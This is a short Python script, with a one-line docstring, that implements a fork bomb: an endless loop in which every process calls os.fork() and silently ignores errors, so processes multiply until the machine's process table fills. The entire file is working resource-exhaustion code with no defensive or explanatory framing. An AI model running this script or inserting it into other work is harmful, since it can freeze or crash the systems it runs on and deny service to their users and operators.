"""Every process forks for ever, from Python. Unprotected, the machine's process table fills."""
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
